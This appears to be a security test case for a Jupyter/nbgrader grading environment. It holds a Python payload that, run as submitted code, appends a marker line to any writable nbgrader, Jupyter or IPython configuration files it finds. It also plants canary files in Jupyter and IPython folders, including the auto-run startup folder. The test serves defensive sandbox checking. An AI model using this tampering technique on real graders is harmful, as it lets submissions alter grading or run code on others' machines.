"""Append to the course's configuration and to Jupyter's and IPython's.

class: write
expect: graded
"""

EXTRA = [
    """import os

LINE = "\\n# attack-canary edit_configuration\\n"
places = ["../" * up + "nbgrader_config.py" for up in range(1, 6)]
places += [os.path.expanduser(name) for name in (
    "~/.jupyter/nbgrader_config.py", "~/.jupyter/jupyter_config.py",
    "~/.ipython/profile_default/ipython_config.py", "/etc/jupyter/nbgrader_config.py",
)]
for path in places:
    if os.path.exists(path):
        try:
            with open(path, "a") as file:
                file.write(LINE)
            print("LOOT: appended to", path)
        except OSError as error:
            print(error)
for folder in ("~/.jupyter", "~/.ipython/profile_default/startup", "~/.local/share/jupyter"):
    folder = os.path.expanduser(folder)
    if os.path.isdir(folder) and os.access(folder, os.W_OK):
        with open(os.path.join(folder, "attack-canary.txt"), "w") as file:
            file.write(LINE)"""
]
